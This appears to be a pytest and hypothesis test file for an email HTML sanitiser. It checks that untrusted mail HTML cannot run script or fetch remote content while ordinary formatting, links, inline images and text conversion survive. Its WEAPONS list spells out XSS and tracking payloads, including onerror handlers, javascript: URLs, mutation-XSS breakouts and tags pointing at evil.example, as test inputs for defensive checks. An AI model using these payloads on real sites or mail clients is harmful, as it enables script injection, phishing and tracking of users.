"""Can a stranger's HTML act, fetch or hide anything? And is it still the mail they wrote?"""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from mailboxes.parsing.body.html import content_ids, sanitise
from mailboxes.parsing.body.html_text import html_to_text
from mailboxes.parsing.values.notes import Notes
from mailboxes.tests.parsing.harmless import assert_harmless
from mailboxes.tests.parsing.mails import multipart, parsed, read

WEAPONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='jav&#x09;ascript:alert(1)'>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input type=password><button formaction=javascript:1>x</button></form>",
    "<p style='background:url(https://evil.example/x.gif)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='color:red;behavior:url(x.htc);-moz-binding:url(x)'>x",
    "<p style='position:fixed;top:0;left:0;z-index:9999'>x",
    "<p style='background-color:\\75rl(https://evil.example)'>x",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example'</style>",
    "<img srcset='https://evil.example/x.gif 1x' src='//evil.example/y.gif'>",
    "<table background='https://evil.example/x.gif'><tr><td>x</table>",
    "<video poster=https://evil.example/x.gif src=https://evil.example/y></video>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id=x class='ticket danger' data-remote-src='https://evil.example'>x",
    "<img alt='x> src=\"remote' title='<img src=\"https://evil.example/z.gif\">' src='cid:a'>",
    "<a ping='https://evil.example' target=_self href='https://ok.example'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html;base64,PHN2Zz4='>",
]


@pytest.mark.parametrize("weapon", WEAPONS)
def test_nothing_in_a_mail_can_act_or_fetch(weapon: str) -> None:
    assert_harmless(sanitise(weapon, Notes()))


@given(st.lists(st.sampled_from([*WEAPONS, "<b>", "</p>", "\"'>", "<!--", "-->", "<", "&lt;img", "x"]), max_size=12))
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_weapons_works_either(pieces: list[str]) -> None:
    assert_harmless(sanitise("".join(pieces), Notes()))


@given(st.text(alphabet="<>/=\"' abimgsrconerrhtp:&;#x0\t\n-!", max_size=200))
@settings(max_examples=300, deadline=None)
def test_no_accident_of_markup_works_either(html: str) -> None:
    assert_harmless(sanitise(html, Notes()))


def test_what_people_write_stays_as_it_looks() -> None:
    html = (
        '<div dir="rtl"><p style="margin:0cm;color:rgb(1, 2, 3)"><b>Hi</b> <font color="red" size="2">you</font></p>'
        '<table border="1" cellpadding="2"><tbody><tr><td colspan="2" bgcolor="#eee">x</td></tr></tbody></table>'
        "<ul><li>one</li></ul><blockquote>quoted</blockquote></div>"
    )
    assert sanitise(html, Notes()) == html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = sanitise('<a href="https://ok.example/?a=1&amp;b=2">x</a><a href="mailto:a@b.example">y</a>', Notes())
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert 'href="https://ok.example/?a=1&amp;b=2"' in html


def test_remote_images_wait_until_the_agent_asks() -> None:
    html = sanitise('<img src="https://track.example/x.gif?u=1&amp;v=2" width="1">', Notes())
    assert ' src="' not in html
    assert 'data-remote-src="https://track.example/x.gif?u=1&amp;v=2"' in html


def test_words_that_look_like_an_image_stay_words() -> None:
    html = '<p> src="https://x.example" &lt;img src="https://x.example"&gt;</p>'
    assert sanitise(html, Notes()) == html


def test_inline_images_are_known_by_their_content_id() -> None:
    html = sanitise('<img src="cid:a%40b"><img src="CID:other"><img src="https://x.example/y.png">', Notes())
    assert content_ids(html) == {"a@b", "other"}


def test_an_inline_image_is_told_from_a_file() -> None:
    email = parsed(
        multipart(
            'Content-Type: text/html\n\n<p>See <img src="cid:one@x"></p>',
            "Content-Type: image/png\nContent-ID: <one@x>\nContent-Disposition: inline; filename=a.png\n\nPNG1",
            "Content-Type: image/png\nContent-ID: <two@x>\nContent-Disposition: inline; filename=b.png\n\nPNG2",
            "Content-Type: application/pdf\nContent-ID: <three@x>\nContent-Disposition: inline; filename=c.pdf\n\nPDF",
            subtype="related",
        )
    )
    assert [(file.name, file.cid, file.inline) for file in email.attachments] == [
        ("a.png", "one@x", True),
        ("b.png", "two@x", True),
        ("c.pdf", "three@x", False),
    ]


def test_an_image_inside_the_html_becomes_an_inline_file() -> None:
    email = read('<p>Look <img src="data:image/png;base64,iVBORw0KGgo="></p>', Content_Type="text/html")
    assert [(file.name, file.inline, file.content) for file in email.attachments] == [
        ("image-1.png", True, b"\x89PNG\r\n\x1a\n")
    ]
    assert f"cid:{email.attachments[0].cid}" in email.html
    assert "base64" not in email.html


def test_html_reads_as_text_with_lists_quotes_and_links() -> None:
    email = read(
        "<style>p{}</style><p>Dear&nbsp;team,</p><p>two<br>lines, a <a href='https://x.example/y'>link</a></p>"
        "<ol><li>one</li><li>two</li></ol><table><tr><td>a</td><td>b</td></tr></table><pre>x\n  y</pre>"
        "<blockquote>quoted<blockquote>twice</blockquote></blockquote>",
        Content_Type="text/html; charset=utf-8",
    )
    assert email.text.split("\n") == [
        "Dear team,",
        "",
        "two",
        "lines, a link <https://x.example/y>",
        "",
        "1. one",
        "2. two",
        "",
        "a b",
        "",
        "x",
        "  y",
        "",
        "> quoted",
        ">",
        "> > twice",
        "",
    ]


@given(st.text(alphabet="<>/ab pbrdivtlqoueck=\"'&;\n", max_size=300))
@settings(max_examples=200, deadline=None)
@example("&ltp")
@example("<<b>p")
def test_any_html_becomes_text(html: str) -> None:
    """No tag is left in it; what looks like one is text for a browser, too, as in these two examples."""
    clean = sanitise(html, Notes())
    assert html_to_text(clean).count("<p") <= LexborHTMLParser(clean).text().count("<p")


def test_the_charset_inside_the_document_counts_without_a_label() -> None:
    body = '<html><head><meta charset="windows-1251"></head><body>Принтер</body>'.encode("cp1251")
    assert read(body, Content_Type="text/html").text.strip() == "Принтер"


def test_html_without_a_content_type_is_html() -> None:
    email = read("<html><body><p>Hello <b>you</b></p></body></html>")
    assert "<b>you</b>" in email.html
    assert email.text.strip() == "Hello you"
